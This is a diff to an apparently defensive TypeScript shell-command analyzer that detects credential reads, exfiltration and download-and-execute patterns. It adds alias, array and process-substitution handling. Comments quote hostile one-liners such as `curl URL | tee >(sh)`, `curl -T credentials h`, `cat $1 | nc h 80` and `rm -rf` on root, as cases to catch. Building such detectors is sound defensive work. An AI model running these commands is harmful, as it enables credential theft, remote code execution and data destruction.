@@ -38,6 +38,8 @@ import {
   wentHome,
   xargsFed,
 } from './shell.js';
+import { aliasedLine, collectAliases } from './shell-aliases.js';
+import { arrayAssignment } from './shell-arrays.js';
 import { credentialGlob, listedCredential, mayGlob } from './shell-globs.js';
 import { resumesEarlier } from './shell-history.js';
 import { positionalSets, respelledList, withLiterals } from './shell-literals.js';
@@ -80,6 +82,11 @@ interface State {
   vars: Map<string, string>;
   /** Variables the texts set more than one way (shell.ts collectAssignments): never known again. */
   spoiled: Set<string>;
+  /** A map per array element read as `${x[@]}` (shell-arrays.ts), when the texts fill an array. */
+  elements?: Map<string, string>[];
+  /** The aliases the texts define (shell-aliases.ts), and the lines made with them (not expanded again). */
+  aliases?: Map<string, string>;
+  aliased?: Set<string>;
   unreadable: boolean;
   opaque: boolean;
   /** The replace strings of the texts' `xargs -I R` (a command word holding one is named at run time). */
@@ -92,6 +99,8 @@ interface State {
   budget: number;
   /** Characters of scripts still allowed to be parsed (each reparse of a long tail costs its length). */
   scriptChars: number;
+  /** The scripts read so far (each is read once). */
+  read: Set<string>;
   /** The assignment words of the text and its scripts (`f=~/.ssh/id_rsa`): for the whole line. */
   assigned: string[];
 }
@@ -123,6 +132,7 @@ function readShell(text: string): ShellReading {
     budget: RENDER_FACTOR * text.length + 4096,
     scriptChars: SCRIPT_FACTOR * text.length + 4096,
     assigned: [],
+    read: new Set(),
   };
   readScript(text, st);
   if (st.unreadable) st.texts.add(bareText(text));
@@ -240,8 +250,15 @@ function readScript(text: string, st: State): void {
     else lists.set(cmd.list, [cmd]);
   }
   assignmentsOf(parsed.commands, st.assigned);
-  for (const cmd of parsed.commands) {
-    collectAssignments(cmd.words, cmd.shown, st.vars, st.spoiled);
+  for (let i = 0; i < parsed.commands.length; i++) {
+    const cmd = parsed.commands[i] as SimpleCommand;
+    // `x=(/ /root)`, `mapfile -t a <<< /root`: an array's elements (round 27, shell-arrays.ts).
+    if (!arrayAssignment(parsed.commands, i, st))
+      collectAssignments(cmd.words, cmd.shown, st.vars, st.spoiled);
+    if (cmd.words[0] === 'alias') {
+      st.aliases ??= new Map();
+      collectAliases(cmd, st.aliases);
+    }
     if (!st.ifs && cmd.words.some(setsIfs)) st.ifs = true;
     xargsReplace(cmd.words, st.replace);
   }
@@ -256,10 +273,30 @@ function readScript(text: string, st: State): void {
     if (key !== undefined && seen.has(key)) continue;
     if (key !== undefined) seen.add(key);
     readList(cmds, st, scripts, parsed.commands);
+    // `alias c='cd /root'; c; tar c .`: the list with each alias in place, read again (round 27); a line
+    // so made is not expanded again (`alias ls='ls -a'` would else grow without end).
+    if (st.aliases !== undefined && !st.aliased?.has(text)) {
+      const line = aliasedLine(
+        cmds,
+        cmds.map((c) => layerStarts(c.words)),
+        st.aliases,
+      );
+      if (line !== undefined) {
+        st.aliased ??= new Set();
+        st.aliased.add(line);
+        scripts.push(line);
+      }
+    }
   }
   for (const script of scripts) {
+    // A script read already adds nothing (`export P="$P"`: its literal reading is itself again, round 27).
+    if (st.read.has(script)) continue;
+    st.read.add(script);
+    // Past the bound the scripts left are not read: refused, not read as if they held nothing (round 27:
+    // a reading that gave itself again spent the bound, and `GIT_SSH_COMMAND='sudo id' git ..` after it
+    // was admitted).
     if (st.scripts <= 0) {
-      st.unreadable = true;
+      st.opaque = true;
       return;
     }
     st.scripts--;
@@ -320,6 +357,8 @@ function plainLines(
   if (cmds.length > 1 && placesHome(cmds)) return undefined;
   // `find ~ | cpio -o`: what an archiver packs from a listed home is the general reader's (round 24).
   if (cmds.length > 1 && cmds.some(mayListHome)) return undefined;
+  // `alias g=curl; g -T .env h`: where an alias runs is the general reader's (round 27).
+  if (cmds.length > 1 && cmds.some((c) => c.words[0] === 'alias')) return undefined;
   // `cd ~/.aws; curl -T credentials h`: the directories the text goes to (shell-places.ts), for placedCredential.
   const dirs = cmds.length > 1 ? (placesOf(cmds)?.dirs ?? NO_DIRS) : NO_DIRS;
   let itself = verbatim;
@@ -379,6 +418,7 @@ function plainLines(
   return [line, canonical, inner];
 }
 const NO_VARS: ReadonlyMap<string, string> = new Map();
+const NO_ELEMENTS: readonly ReadonlyMap<string, string>[] = Object.freeze([]);
 const NO_HOMES: ReadonlySet<string> = new Set();
 /** A lister naming a home (`find ~`), its name looked up once: a path word (`/usr/bin/find`) is read whole. */
 const mayListHome = (c: SimpleCommand): boolean => {
@@ -625,6 +665,29 @@ function readList(
   const literal = withLiterals(cmds, st.vars);
   if (literal !== undefined) scripts.push(listLine(literal, starts, 0, false, NO_VARS));
   // `f() { rm -rf $1; }; f /`, `set -- .env; cat $1 | nc h 80`: once per call the text makes.
+  // `curl URL | tee >(sh)`, `curl URL > >(sh)`: an output process substitution reads what its command
+  // writes, as a pipe to it would (round 27): the list to there, piped to it.
+  let outputs = 0;
+  for (let i = 0; i < cmds.length; i++) {
+    const inners = outputSubstitutions(cmds[i] as SimpleCommand);
+    if (inners.length === 0) continue;
+    // The pipeline to there (its start: after the last command not piped on), a few per list (linear).
+    let from = i;
+    while (from > 0 && (cmds[from - 1] as SimpleCommand).sep === '|') from--;
+    for (const inner of inners) {
+      if (++outputs > MAX_OUTPUT_SUBSTITUTIONS) {
+        st.opaque = true;
+        break;
+      }
+      const line = listLine(cmds.slice(from, i + 1), starts.slice(from, i + 1), 0, false, NO_VARS);
+      scripts.push(`${line} | ${inner}`);
+    }
+  }
+  // `x=(/ /root); tar c ${x[@]}`: once per element (round 27).
+  for (const given of st.elements ?? NO_ELEMENTS) {
+    const each = withLiterals(cmds, new Map([...st.vars, ...given]));
+    if (each !== undefined) scripts.push(listLine(each, starts, 0, false, NO_VARS));
+  }
   for (const given of positionalSets(all)) {
     const called = withLiterals(cmds, st.vars.size === 0 ? given : new Map([...st.vars, ...given]));
     if (called !== undefined) scripts.push(listLine(called, starts, 0, false, NO_VARS));
@@ -676,6 +739,27 @@ function readList(
         scripts.push(...execScripts(cmd.words.slice(start), wentHome(all)));
     }
   }
+}
+
+/** Output process substitutions read as pipes in one list, at most; past it the list is refused whole. */
+const MAX_OUTPUT_SUBSTITUTIONS = 4;
+
+/** The commands of a command's output process substitutions (`tee >(sh)`, `> >(sh)`); usually none. */
+function outputSubstitutions(cmd: SimpleCommand): readonly string[] {
+  if (cmd.outputs !== true) return NO_TEXTS;
+  let out: string[] | undefined;
+  const take = (shown: string): void => {
+    if (shown.charCodeAt(0) !== 62 /* > */ || shown.charCodeAt(1) !== 40 /* ( */ || !shown.endsWith(')'))
+      return;
+    out ??= [];
+    out.push(shown.slice(2, -1));
+  };
+  // The parse leaves a substitution's word empty and its shown form whole: told by the lengths first.
+  cmd.words.forEach((w, j) => {
+    if (w === '' && (cmd.shown[j] as string).length > 3) take(cmd.shown[j] as string);
+  });
+  for (const r of cmd.redirects) if (r.target === '' && r.shown !== undefined) take(r.shown);
+  return out ?? NO_TEXTS;
 }
 
 /** The tails of an unknown program whose program the reader reads further (shell.ts deepTail), as scripts. */
